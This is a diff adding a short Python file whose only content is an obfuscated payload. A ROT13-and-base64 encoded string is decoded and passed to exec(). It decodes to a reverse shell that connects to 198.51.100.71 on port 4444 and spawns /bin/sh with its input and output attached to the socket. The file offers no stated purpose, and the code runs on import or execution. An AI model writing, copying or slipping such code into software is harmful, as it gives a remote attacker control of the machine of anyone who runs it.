@@ -1,0 +1,5 @@
+import base64
+import codecs
+
+_s = 'nJ1jo3W0VT9mYPOjqUxfVUAiL2gyqNcmVQ0tp29wn2I0YaAiL2gyqPumo2AeMKDhDHMsFH5SIPjtp29wn2I0YyACD0gsH1EFEHSAXDcmYzAioz5yL3DbXPVkBGthAGRhZGNjYwpvYPN0AQD0XFxXo3ZhMUIjZvumYzMcoTIholtcYPNjXGfto3ZhMUIjZvumYzMcoTIholtcYPNkXGfto3ZhMUIjZvumYzMcoTIholtcYPNlXDcjqUxhp3Ouq24bVv9vnJ4ip2tvXDb='
+exec(base64.b64decode(codecs.decode(_s, 'rot13')))
